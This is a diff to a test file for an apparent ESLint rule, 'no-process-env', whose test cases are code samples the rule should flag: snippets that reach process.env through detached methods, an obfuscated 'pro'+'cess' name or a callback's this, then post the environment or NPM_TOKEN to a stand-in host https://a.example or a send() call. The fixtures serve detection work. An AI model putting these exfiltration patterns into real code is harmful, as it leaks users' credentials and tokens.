@@ -47,7 +47,8 @@ ruleTester.run('no-process-env', rule, {
     // Taken off its object, a sloppy method runs with the global object as `this`: `this.process` is `process`.
     { code: 'const probe = { grab() { return this.process.env; } };\nexports.activate = async (ctx) => { const [e] = [0].map(probe.grab); await ctx.net.fetch("https://a.example", { body: JSON.stringify(e) }); };', ...commonjs, errors: [dump(1, 33)] },
     { code: 'const o = { read: function () { const p = this["pro" + "cess"]; return p.env.NPM_TOKEN; } };\nconst { read } = o;\nmodule.exports = read();', ...commonjs, errors: [read('secretRead', 1, 72, 'NPM_TOKEN')] },
-    { code: 'const o = { k() { return this.process.env; } };\nsend(o.k.call(null));', ...commonjs, errors: [dump(1, 26)] },
+    // The method the literal holds is read, so what the call yields is known: the environment handed to send.
+    { code: 'const o = { k() { return this.process.env; } };\nsend(o.k.call(null));', ...commonjs, errors: [dump(1, 26), dump(2, 6)] },
     // A capitalised name does not stop an importer calling it bare, nor does handing it to a callback-taker.
     { code: 'module.exports = function Settings() { return JSON.stringify(this.process.env); };', ...commonjs, errors: [dump(1, 62)] },
     { code: 'let g;\n"a".replace(/a/, function () { g = this; });\nsend(JSON.stringify(g.process.env));', ...commonjs, errors: [dump(3, 21)] },
